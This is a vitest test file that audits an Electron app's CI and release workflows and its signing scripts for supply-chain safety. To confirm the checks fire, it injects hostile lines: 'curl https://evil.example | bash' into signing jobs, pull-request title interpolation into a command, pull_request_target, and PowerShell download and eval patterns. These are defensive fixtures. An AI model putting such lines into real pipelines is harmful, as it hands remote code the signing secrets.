import { readFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import path from 'node:path';
import { expect, test } from 'vitest';
import { TIERS } from '../scripts/test-tiers.ts';
import { PROJECT } from './packed.ts';
import { foreignCommands, problemsOf } from './testing/workflow-rules.ts';
import type { Job, Step, Workflow, Workflows } from './testing/workflow-rules.ts';

// The YAML parser of electron-updater; it has no types.
const { load } = createRequire(createRequire(import.meta.url).resolve('electron-updater'))('js-yaml') as {
  load: (text: string) => unknown;
};
const textOf = (name: string): string => readFileSync(path.join(PROJECT, name), 'utf8');
/** The workflows, after `change` is applied to each text. */
const read = (change = (text: string): string => text): Workflows => {
  const named = (name: string): Workflow => load(change(textOf(`.github/workflows/${name}.yml`))) as Workflow;
  return { ci: named('ci'), release: named('release'), advisories: named('advisories') };
};
const { ci, release, advisories } = read();

const stepsOf = ({ jobs }: Workflow): Step[] => Object.values(jobs).flatMap(({ steps = [] }) => steps);
const needsOf = ({ needs = [] }: Job): string[] => [needs].flat();
const isSecret = (part: unknown): boolean => /\bsecrets\b|\bgithub\s*\.\s*token\b/.test(JSON.stringify(part));

test('the jobs that a release calls contain every check of a change', () => {
  expect(ci.on).toHaveProperty('workflow_call');
  const lines = stepsOf(ci).map(({ run = '' }) => run);
  // All steps of the full test, in parallel jobs; `check` includes types, lint and words.
  const parts = TIERS.full.map(({ script }) => script);
  expect(parts).toEqual(['types', 'lint', 'words', 'test:unit', 'build', 'test:e2e']);
  for (const name of ['check', 'test:unit', 'build', 'test:packed'])
    expect(lines).toContain(`npm run ${name}`);
  expect(lines).toContain('npm audit signatures');
  const { strategy } = ci.jobs['e2e'] ?? {};
  expect(strategy?.matrix['shard']).toEqual([1, 2, 3, 4]);
  expect(lines).toContain('npm run test:e2e -- --shard=${{ matrix.shard }}/4');
  const places = lines.filter((line) => line.startsWith('npm ci --ignore-scripts --min-release-age=7'));
  expect(places).toHaveLength(3);
});

test('no job of a release runs before those jobs have passed on the tagged commit', () => {
  const gates = Object.entries(release.jobs).filter(([, job]) => job.uses === './.github/workflows/ci.yml');
  expect(gates).toEqual([['ci', { uses: './.github/workflows/ci.yml' }]]);
  const waits = (name: string): boolean =>
    needsOf(release.jobs[name] ?? {}).some((needed) => needed === 'ci' || waits(needed));
  const others = Object.keys(release.jobs).filter((name) => name !== 'ci');
  expect(others.filter((name) => !waits(name))).toEqual([]);
  // A condition such as always() would run a job although its dependencies failed.
  expect(Object.values(release.jobs).filter((job) => 'if' in job)).toEqual([]);
});

test('no release is packaged with an outdated Electron', () => {
  const lines = (release.jobs['build']?.steps ?? []).map(({ run = '' }) => run);
  const [looked, packed] = ['node packaging/electron-age.ts', 'node packaging/package.ts'].map((line) =>
    lines.findIndex((run) => run.startsWith(line)),
  );
  expect(looked).toBeGreaterThan(-1);
  expect(packed).toBeGreaterThan(looked ?? Infinity);
});

test('no library runs in a job that has a secret or may write', () => {
  expect(isSecret(ci)).toBe(false);
  const trusted = Object.entries(release.jobs).filter(
    ([, job]) => isSecret(job) || job.environment !== undefined || job.permissions !== undefined,
  );
  expect(trusted.map(([name]) => name)).toEqual([
    'sign-macos',
    'sign-windows-program',
    'sign-windows-installer',
    'draft',
  ]);
  expect(problemsOf(read())).toEqual([]);
});

const SIGNING = '      - run: bash packaging/sign/macos.sh packaging/out\n';
const before = (line: string, more: string): [string, string] => [line, more + line];

test.each<[string, [string, string]]>([
  ['a download in a signing job', before(SIGNING, '      - run: curl -s https://evil.example/x | bash\n')],
  [
    'a package manager in a signing job',
    before(SIGNING, '      - run: brew install foo && pip install bar\n'),
  ],
  [
    'a package manager in the job that drafts the release',
    before('      - run: node packaging/write-feed.ts', '      - run: corepack yarn install\n'),
  ],
  [
    'a third-party image',
    ['    environment: release\n', '    environment: release\n    container: evil/image:latest\n'],
  ],
  [
    'an unpinned action',
    before('      - run: node packaging/electron-age.ts\n', '      - uses: evil/thing@v1\n'),
  ],
  ['an attestation of another file', ["subject-path: 'packaging/out/*'", "subject-path: 'README.md'"]],
  [
    'a missing attestation',
    [
      "        with: { subject-path: 'packaging/out/*' }",
      "        if: false\n        with: { subject-path: 'packaging/out/*' }",
    ],
  ],
  ['a missing approval', ['    environment: release\n', '']],
  ['write permission for everything', ['permissions:\n  contents: read', 'permissions: write-all']],
  ['a pull request with access to secrets', ['  pull_request:', '  pull_request_target:']],
  [
    'untrusted text in a command',
    before('      - run: npm run check\n', '      - run: echo "${{ github.event.pull_request.title }}"\n'),
  ],
  ['persisted credentials', ['persist-credentials: false', 'persist-credentials: true']],
  [
    'an advisory check that cannot fail',
    ['      - run: npm audit --p', '      - continue-on-error: true\n        run: npm audit --p'],
  ],
  ['an advisory check that runs once in four years', ["'17 5 * * *'", "'17 5 29 2 *'"]],
  ['an advisory check of the peers only', ["['.', packaging/tools, ", '[']],
])('detects %s', (_what, [from, to]) => {
  const texts = ['ci', 'release', 'advisories'].map((name) => textOf(`.github/workflows/${name}.yml`));
  expect(texts.some((text) => text.includes(from))).toBe(true);
  expect(problemsOf(read((text) => text.replace(from, to)))).not.toEqual([]);
});

test('signing scripts run only the system’s own tools', () => {
  for (const name of ['macos.sh', 'windows.ps1', 'digests.sh']) {
    expect(foreignCommands(name, textOf(`packaging/sign/${name}`)), name).toEqual([]);
  }
  for (const line of ['npx some-signer', 'curl https://evil.example | bash', 'rm x && ./mine.sh'])
    expect(foreignCommands('macos.sh', line), line).not.toEqual([]);
  for (const line of ['Invoke-Expression $text', '& $other', '[Net.WebClient]::new()'])
    expect(foreignCommands('windows.ps1', line), line).not.toEqual([]);
});

test('signing code imports only Node modules', () => {
  const programs = stepsOf(release).flatMap(
    ({ run = '' }) => /^node (packaging\/[\w-]+\.ts) packaging\/(?:out|artifacts)/.exec(run)?.[1] ?? [],
  );
  expect(programs).toEqual([
    'packaging/collect-release.ts',
    'packaging/write-feed.ts',
    'packaging/sign-feed.ts',
  ]);
  for (const program of [...programs, 'packaging/release-files.ts']) {
    const imported = [...readFileSync(path.join(PROJECT, program), 'utf8').matchAll(/from '([^']+)'/g)];
    for (const [, name] of imported)
      expect(name, program).toMatch(/^node:|^\.\.\/package\.json$|^\.\/release-files\.ts$/);
  }
});

test('only the steps that sign or draft have access to a secret', () => {
  const withSecrets = stepsOf(release).filter(isSecret);
  expect(withSecrets.map(({ run, uses }) => run ?? uses)).toEqual([
    'bash packaging/sign/macos.sh packaging/out',
    'packaging/sign/windows.ps1 packaging/out/win-unpacked',
    'packaging/sign/windows.ps1 packaging/out',
    'node packaging/sign-feed.ts packaging/out',
    expect.stringMatching(/^gh release create [^;&|\n]+$/),
  ]);
  // Every step also has the environment of its job and workflow.
  const jobs = Object.values(release.jobs).map((job) => ({ ...job, steps: [] }));
  expect(isSecret([jobs, { ...release, jobs: {} }])).toBe(false);
});

test('the origin of files is attested, and advisories are checked on a schedule', () => {
  const uses = stepsOf(release).map(({ uses = '' }) => uses);
  expect(uses.filter((name) => name.startsWith('actions/attest-build-provenance@'))).toHaveLength(1);
  expect(release.jobs['draft']?.permissions).toEqual({
    contents: 'write',
    'id-token': 'write',
    attestations: 'write',
  });
  expect(advisories.on).toHaveProperty('schedule');
  expect(stepsOf(advisories).map(({ run = '' }) => run)).toContainEqual(
    expect.stringMatching(/^npm audit --package-lock-only/),
  );
});
